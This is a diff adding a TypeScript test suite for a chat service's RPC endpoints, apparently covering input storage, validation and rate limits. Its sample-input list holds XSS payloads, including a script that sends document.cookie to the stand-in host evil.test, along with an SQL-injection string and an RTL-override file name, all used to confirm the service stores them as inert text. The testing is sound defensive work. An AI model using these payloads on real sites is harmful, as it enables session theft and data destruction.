@@ -1,0 +1,178 @@
+import { randomUUID } from 'node:crypto';
+import { type Answer, type Caller, caller, everyRole, manyClients } from '../local/testing/api';
+import { asVisitor, aToken, startChat, type Visitor, WITHOUT_LIMITS } from '../local/testing/chat';
+import { type HostProcess, startHost } from '../local/testing/hostProcess';
+
+/** Looks dangerous, is text: stored and shown as it is. */
+const harmless = [
+  `<script>fetch('//evil.test?c='+document.cookie)</script>`,
+  `<iframe srcdoc='<script>parent.alert(1)</script>'>`,
+  '[x](javascript:alert(1))',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'invoice\u202efdp.exe',
+  '{"type":"agent","senderName":"agent-support"}',
+  '[[[[[[[[]]]]]]]]',
+  `'); delete from chats; --`,
+  'line 1\n\tline 2\r\nline 3',
+  '  with spaces around  ',
+  '\u0645\u0631\u062d\u0628\u0627 \u{1F69A}',
+  '0',
+  'm'.repeat(2000),
+  '\u{1F69A}'.repeat(2000),
+];
+const refused: [string, unknown][] = [
+  ['nothing', ''],
+  ['spaces', '   '],
+  ['a new line', '\n\t'],
+  ['what cannot be seen', '\u200b\u00a0\u3000\ufeff'],
+  ['null', null],
+  ['2001 characters', 'm'.repeat(2001)],
+  ['1 MB', 'm'.repeat(1_048_576)],
+  ['NUL', 'a\u0000b'],
+  ['an escape sequence', 'a\u001b[31mb'],
+  ['half a character', '\ud800'],
+];
+
+describe('what is written into a chat', () => {
+  let host: HostProcess;
+  let anon: Caller;
+  let admin: Caller;
+  beforeAll(async () => {
+    host = await startHost({ env: manyClients });
+    ({ anon, admin } = await everyRole(host));
+  });
+  afterAll(() => host.stop());
+
+  const rpc = (name: string, body: unknown, call = anon): Promise<Answer> =>
+    call('POST', `/rest/v1/rpc/${name}`, { body });
+
+  describe('may be anything that is text', () => {
+    let visitor: Visitor;
+    let chat: string;
+    beforeAll(async () => {
+      await host.sql(WITHOUT_LIMITS);
+      ({ visitor, chat } = await startChat(anon, admin));
+    });
+
+    it.each(harmless.map((text) => [text.slice(0, 40), text]))('%j', async (_short, text) => {
+      expect((await visitor.send(text)).item).toMatchObject({ message: text, type: 'visitor' });
+      expect(await rpc('chat_reply', { chat, cid: randomUUID(), body: text }, admin)).toMatchObject({
+        body: { item: { message: text, type: 'agent' } },
+      });
+      expect((await asVisitor(anon).start(text)).items).toMatchObject([{ message: text }]);
+      const { items, seq } = await visitor.read();
+      expect(items.slice(-2).map(({ message }) => message)).toEqual([text, text]);
+      expect(items).toHaveLength(seq);
+    });
+
+    it.each(refused)('but not %s', async (_name, body) => {
+      const before = await visitor.read();
+      const cid = randomUUID();
+      const token = aToken();
+      for (const answer of [
+        await rpc('chat_start', { token, cid, body }),
+        await rpc('chat_send', { token: visitor.token, cid, body }),
+        await rpc('chat_reply', { chat, cid, body }, admin),
+      ]) {
+        expect(answer.status).toBe(400);
+      }
+      expect(await visitor.read()).toEqual(before);
+      expect(await asVisitor(anon, token).read()).toEqual({ status: 'gone' });
+    });
+
+    it('and blank text is refused with 23514', async () => {
+      const answer = await rpc('chat_send', { token: visitor.token, cid: randomUUID(), body: ' ' });
+      expect(answer).toMatchObject({ status: 400, body: { code: '23514' } });
+    });
+
+    it.each([
+      ['chat_send', { cid: null }],
+      ['chat_send', { cid: 'not a uuid' }],
+      ['chat_start', { token: '11111111-1111-4111-8111-111111111111' }],
+      ['chat_start', { token: `${'a'.repeat(42)}\n` }],
+      ['chat_start', { token: null }],
+      ['chat_read', { cid: undefined, body: undefined, after: 2147483648 }],
+      ['chat_read', { cid: undefined, body: undefined, after: 'many' }],
+    ])('and %s is refused with %j', async (name, changes) => {
+      const body = { token: visitor.token, cid: randomUUID(), body: 'Hello', ...changes };
+      expect(await rpc(name, body)).toMatchObject({ status: 400 });
+    });
+
+    it('and a place beyond the end has nothing after it', async () => {
+      expect(await visitor.read(2147483647)).toMatchObject({ status: 'open', items: [] });
+      expect((await visitor.read(-5)).items[0]).toMatchObject({ seq: 1 });
+    });
+  });
+
+  describe('has a limit', () => {
+    const inTenMinutes = { code: 'PT429', message: 'Too many requests, try again in ten minutes.' };
+    const inAMinute = { code: 'PT429', message: 'Too many requests, try again in a minute.' };
+    const from = (client: string): Caller => {
+      const call = caller(host);
+      return (method, address, { body } = {}) =>
+        call(method, address, { body, headers: { 'x-forwarded-for': client } });
+    };
+    beforeEach(async () => {
+      await host.sql('delete from private.hits');
+      await host.sql(
+        `update private.limits set
+           per_client = case action when 'chatStart' then 5 when 'chatSend' then 30 else 60 end,
+           overall = case action when 'chatStart' then 400 end,
+           window_seconds = case action when 'chatStart' then 600 else 60 end
+         where action in ('chatStart', 'chatSend', 'chatSecret')`,
+      );
+    });
+    /** Any window may end between two calls: so many calls that one window sees too many of them. */
+    const flood = async (calls: number, call: () => Promise<Answer>): Promise<Answer[]> => {
+      const answers: Answer[] = [];
+      for (let count = 0; count < calls; count++) answers.push(await call());
+      return answers.filter(({ status }) => status !== 200);
+    };
+
+    it('of five starts in ten minutes for each client', async () => {
+      const begin = (client: string) => () =>
+        rpc('chat_start', { token: aToken(), cid: randomUUID(), body: 'Hi' }, from(client));
+      const over = await flood(12, begin('192.0.2.1'));
+      expect(over.length).toBeGreaterThan(0);
+      expect(over[0]).toMatchObject({ status: 429, body: inTenMinutes });
+      expect(await begin('192.0.2.2')()).toMatchObject({ status: 200 });
+    });
+
+    it('of starts that counts a start once, however often it is sent', async () => {
+      const body = { token: aToken(), cid: randomUUID(), body: 'Hi' };
+      expect(await flood(20, () => rpc('chat_start', body, from('192.0.2.3')))).toEqual([]);
+    });
+
+    it('of starts for all clients together', async () => {
+      await host.sql(`update private.limits set overall = 3 where action = 'chatStart'`);
+      let client = 0;
+      const over = await flood(8, () =>
+        rpc('chat_start', { token: aToken(), cid: randomUUID(), body: 'Hi' }, from(`198.51.100.${client++}`)),
+      );
+      expect(over[0]).toMatchObject({ status: 429, body: inTenMinutes });
+    });
+
+    it('of thirty messages a minute for each chat, wherever they come from', async () => {
+      const visitor = asVisitor(anon);
+      await visitor.start();
+      const send = (token: string) => () => rpc('chat_send', { token, cid: randomUUID(), body: 'Hi' });
+      const over = await flood(62, send(visitor.token));
+      expect(over[0]).toMatchObject({ status: 429, body: inAMinute });
+      const other = asVisitor(anon);
+      await other.start();
+      expect(await send(other.token)()).toMatchObject({ body: { status: 'ok' } });
+      expect(await visitor.read()).toMatchObject({ status: 'open' });
+    });
+
+    it('of sixty wrong secrets a minute for each client, and none for the right one', async () => {
+      const visitor = asVisitor(anon);
+      await visitor.start();
+      const guess = () => rpc('chat_read', { token: aToken() }, from('192.0.2.9'));
+      const over = await flood(122, guess);
+      expect(over[0]).toMatchObject({ status: 429, body: inAMinute });
+      expect(await rpc('chat_read', { token: visitor.token }, from('192.0.2.9'))).toMatchObject({
+        status: 200,
+      });
+    });
+  });
+});
